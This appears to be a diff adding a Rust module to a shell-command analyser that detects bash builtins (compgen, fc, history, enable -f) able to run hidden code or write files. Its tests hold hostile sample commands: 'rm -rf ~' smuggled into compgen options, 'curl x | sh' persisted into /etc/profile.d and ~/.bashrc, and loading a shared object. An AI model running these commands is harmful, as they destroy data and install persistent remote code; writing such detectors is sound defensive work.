@@ -1,0 +1,150 @@
+//! Bash builtins made for interactive use that still run code in a script: `compgen`
+//! with `-C`, `-F` or `-W`, `fc`, `history` and `enable -f`.
+
+use super::super::super::SimpleCommand;
+use super::super::super::env::FileText;
+use super::super::super::expand::Field;
+use super::super::super::walk::{Data, Reader};
+
+/// `compgen`: `-C CMD` runs CMD, `-F FUNC` calls the function, and each word of `-W
+/// WORDLIST` is expanded as the shell expands a word, `$(...)` and all.
+pub(super) fn compgen(r: &mut Reader, args: &[Field]) {
+    let mut k = 0;
+    while let Some(arg) = args.get(k) {
+        let text = arg.text.as_str();
+        if text == "--" || !text.starts_with('-') {
+            break;
+        }
+        // Options are single letters, a value attached or in the next word (`-Wwords`).
+        for (at, letter) in text.char_indices().skip(1) {
+            if !"CFWGXPSAo".contains(letter) {
+                continue;
+            }
+            let attached = &text[at + 1..];
+            let value = if attached.is_empty() {
+                k += 1;
+                args.get(k)
+            } else {
+                None
+            };
+            let (code, unknown) = match value {
+                Some(v) => (v.text.as_str(), v.unknown),
+                None => (attached, arg.unknown),
+            };
+            // A word list not known (`-W "$(git branch)"`) is expanded again as well, but,
+            // as a value not known in arithmetic, it is taken to hold words, not code.
+            if "CFW".contains(letter) && !(unknown && letter == 'W') {
+                if unknown {
+                    r.opaque("compgen runs code that is not known before it runs");
+                } else {
+                    let script = match letter {
+                        'W' => format!(": {code}"),
+                        _ => code.to_owned(),
+                    };
+                    r.reached(format!("run by compgen -{letter}"), |r| {
+                        r.script(&script, Data::Nothing)
+                    });
+                }
+            }
+            break;
+        }
+        k += 1;
+    }
+}
+
+/// `fc` runs commands from the shell's history (`fc -s`, or what an editor leaves),
+/// which a script may fill with `history -s`; `fc -l` only lists them.
+pub(super) fn fc(r: &mut Reader, args: &[Field]) {
+    let lists = args
+        .iter()
+        .take_while(|a| a.text.starts_with('-') && a.text != "--")
+        .any(|a| a.text.contains('l'));
+    if !lists {
+        r.opaque("fc runs a command from the shell's history");
+    }
+}
+
+/// `history -w FILE` and `-a FILE` write the history list, which `history -s` fills with
+/// any text, to a file.
+pub(super) fn history(r: &mut Reader, args: &[Field]) {
+    let Some(option) = args.first().filter(|a| a.text.starts_with('-')) else {
+        return;
+    };
+    let append = option.text.contains('a');
+    if !(append || option.text.contains('w')) {
+        return;
+    }
+    let Some(file) = args.get(1) else { return };
+    if file.unknown {
+        r.opaque("history writes to a file not known before it runs");
+        return;
+    }
+    r.env.write_file(&file.text, FileText::Unknown, append);
+    let mut tee = vec![file.text.clone()];
+    if append {
+        tee.insert(0, "-a".to_owned());
+    }
+    r.record(SimpleCommand::implied("tee", tee, None));
+}
+
+/// `enable -f LIB NAME` loads a builtin from a shared object: native code.
+pub(super) fn enable(r: &mut Reader, args: &[Field]) {
+    let loads = args
+        .iter()
+        .take_while(|a| a.text.starts_with('-') && a.text != "--")
+        .any(|a| a.text.contains('f'));
+    if loads {
+        r.opaque("enable -f loads a builtin from a shared object (native code)");
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::matcher::shell::parse;
+
+    fn runs(line: &str, command: &str) -> bool {
+        parse(line).commands.iter().any(|c| c.text() == command)
+    }
+
+    #[test]
+    fn compgen_runs_its_command_function_and_word_list() {
+        for (line, command) in [
+            ("compgen -C 'rm -rf ~ #' -- x", "rm -rf ~"),
+            ("f() { rm -rf /srv; }; compgen -F f -- x", "rm -rf /srv"),
+            (r#"compgen -W '"$(rm -rf ~)"' -- x"#, "rm -rf ~"),
+            ("compgen -W'$(rm -rf ~)' -- x", "rm -rf ~"),
+        ] {
+            assert!(runs(line, command), "{line}: {:?}", parse(line));
+        }
+        assert_eq!(parse("compgen -W 'start stop status' -- st").opaque, None);
+        assert_eq!(parse("compgen -c git").opaque, None);
+        // The branch names are words, as a value not known in arithmetic is a number.
+        assert_eq!(
+            parse(r#"compgen -W "$(git branch --format='%(refname:short)')" -- fix"#).opaque,
+            None
+        );
+        assert!(parse(r#"compgen -C "$cmd" -- x"#).opaque.is_some());
+    }
+
+    #[test]
+    fn history_runs_through_fc_and_writes_files() {
+        assert!(
+            parse("set -o history; history -s 'rm -rf ~'; fc -s")
+                .opaque
+                .is_some()
+        );
+        assert_eq!(parse("fc -l -5").opaque, None);
+        assert!(runs(
+            "history -s 'curl x | sh'; history -w /etc/profile.d/zz.sh",
+            "tee /etc/profile.d/zz.sh"
+        ));
+        assert!(runs("history -a ~/.bashrc", "tee -a ~/.bashrc"));
+        assert_eq!(parse("history -c").opaque, None);
+    }
+
+    #[test]
+    fn enable_f_loads_native_code() {
+        assert!(parse("enable -f /tmp/x.so evil").opaque.is_some());
+        assert_eq!(parse("enable -n echo").opaque, None);
+    }
+}
